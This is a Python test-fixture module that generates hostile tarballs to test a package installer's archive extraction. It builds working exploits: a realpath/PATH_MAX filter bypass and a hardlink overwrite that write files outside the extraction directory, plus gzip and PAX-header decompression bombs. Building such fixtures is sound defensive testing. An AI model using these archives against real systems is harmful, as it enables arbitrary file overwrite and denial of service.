"""Hostile tarballs, built with the real ``tarfile`` at test time (for ``client.extract`` and
``vouch install``).

    data = build([member("package/ok.txt", b"hi"), symlink("lnk", "../..")])
    data = realpath_escape(dest_len=len(str(staging_dir)))   # CVE-2025-4517, gh-135034
    data = gzip_bomb(declared=2 << 30)                        # ~2 MB that unpacks to 2 GiB

Each builder returns the bytes of a gzip-compressed archive unless it says otherwise.
"""

from __future__ import annotations

import gzip
import io
import os
import tarfile
from dataclasses import dataclass


@dataclass(frozen=True)
class Entry:
    name: str
    type: bytes = tarfile.REGTYPE
    data: bytes = b""
    linkname: str = ""
    mode: int = 0o644
    pax: dict[str, str] | None = None


def member(name: str, data: bytes = b"", mode: int = 0o644) -> Entry:
    return Entry(name, tarfile.REGTYPE, data, mode=mode)


def directory(name: str, mode: int = 0o755) -> Entry:
    return Entry(name, tarfile.DIRTYPE, mode=mode)


def symlink(name: str, target: str) -> Entry:
    return Entry(name, tarfile.SYMTYPE, linkname=target, mode=0o777)


def hardlink(name: str, target: str) -> Entry:
    return Entry(name, tarfile.LNKTYPE, linkname=target)


def special(name: str, kind: bytes) -> Entry:
    """A character device, block device or FIFO (``tarfile.CHRTYPE``/``BLKTYPE``/``FIFOTYPE``)."""
    return Entry(name, kind, mode=0o666)


def build(entries: list[Entry], *, compression: str = "gz") -> bytes:
    buffer = io.BytesIO()
    mode = f"w:{compression}" if compression else "w"
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as archive:  # type: ignore[call-overload]
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.type = entry.type
            info.mode = entry.mode
            info.linkname = entry.linkname
            if entry.pax:
                info.pax_headers = dict(entry.pax)
            if entry.type == tarfile.REGTYPE:
                info.size = len(entry.data)
                archive.addfile(info, io.BytesIO(entry.data))
            else:
                archive.addfile(info)
    return buffer.getvalue()


def realpath_escape(dest_len: int, escape_to: str = "../..",
                    name: str = "pwned.txt") -> bytes:
    """The realpath/PATH_MAX bypass of the ``data`` filter (CVE-2025-4517; CPython's
    ``test_realpath_limit_attack``, gh-135034), aimed at a destination directory whose path is
    ``dest_len`` characters long.

    Sixteen nested directories with names long enough that the final symlink ``a/b/.../p/lll``
    (pointing back up to the destination) pushes the resolved path past PATH_MAX:
    non-strict ``os.path.realpath`` stops resolving there and checks a string the kernel never
    uses. ``escape`` points at ``<that link>/<escape_to>``; the filter thinks it stays inside,
    the kernel resolves it to ``<destination>/<escape_to>``, and ``escape/<name>`` is written
    there. With ``escape_to="../.."`` and a staging directory in ``vouch_modules/``, that is
    the project directory.
    """
    steps = "abcdefghijklmnop"
    max_path = os.pathconf("/", "PC_PATH_MAX")
    component = "d" * ((max_path - dest_len - 1) // (len(steps) + 1))
    entries: list[Entry] = []
    path = ""
    for step in steps:
        entries.append(directory(os.path.join(path, component), mode=0o777))
        entries.append(symlink(os.path.join(path, step), component))
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    entries.append(symlink(linkpath, os.path.join(*[".."] * len(steps))))
    entries.append(symlink("escape", os.path.join(linkpath, escape_to)))
    entries.append(member(f"escape/{name}", b"written outside the package directory"))
    return build(entries)


def hardlink_overwrite(victim: str = "../../victim.txt") -> bytes:
    """A hard link to a file outside, then a regular member of the same name: extracting the
    second writes through the link into the victim (the CVE-2025-4330 shape)."""
    return build([hardlink("package/hl", victim), member("package/hl", b"overwritten")])


def gzip_bomb(declared: int, name: str = "package/zeros.bin", chunk: int = 1 << 20) -> bytes:
    """One member of ``declared`` zero bytes, as concatenated gzip members of one compressed
    MiB each (about 1 KB apiece): ~1 MB of gzip per GiB. ``declared`` is a multiple of
    ``chunk``."""
    assert declared % chunk == 0
    info = tarfile.TarInfo(name)
    info.size = declared
    info.mode = 0o644
    header = info.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")
    zeros = gzip.compress(b"\0" * chunk, compresslevel=9, mtime=0)
    return b"".join([gzip.compress(header, mtime=0), zeros * (declared // chunk),
                     gzip.compress(b"\0" * 1024, mtime=0)])


def pax_header_bomb(size: int) -> bytes:
    """A member whose PAX extended header carries ``size`` bytes of comment: ``tarfile``
    reads the whole header into memory before it returns the member."""
    return build([Entry("package/a.txt", data=b"a", pax={"comment": "x" * size})])


def pax_sparse(name: str = "package/s", realsize: int = 5) -> bytes:
    """A regular-typed member that PAX ``GNU.sparse.*`` records (format 1.0) turn into a
    sparse file: a map in the data, then the data blocks."""
    data = b"1\n0\n%d\n" % realsize
    data = data.ljust(512, b"\0") + b"h" * realsize
    return build([Entry("package/GNUSparseFile.0/s", data=data, pax={
        "GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": name,
        "GNU.sparse.realsize": str(realsize)})])


def many_members(count: int) -> bytes:
    return build([member(f"package/f{index}.txt", b"") for index in range(count)])
